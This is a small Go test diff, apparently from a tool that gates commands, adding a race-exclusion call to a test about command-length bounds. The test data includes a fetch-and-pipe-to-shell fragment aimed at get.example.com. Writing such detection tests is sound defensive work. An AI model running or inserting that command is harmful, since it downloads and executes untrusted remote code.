@@ -6,11 +6,13 @@ import (
 	"testing"
 
 	"github.com/aigate/gate/gate"
+	"github.com/aigate/gate/tools/testenv"
 )
 
 // A bound that keeps a command from being worked out is said, and one just below it is
 // worked out. What reaches a bound and makes no command is nothing to say.
 func TestABoundThatKeepsACommandFromBeingWorkedOutIsSaid(t *testing.T) {
+	testenv.WithoutRace(t, "one build file at a time, each up to a bound")
 	const run = " -fsS http://get.example.com/s.sh | sh"
 	const url = run + "\n"
 	times := func(n int, format string) string {
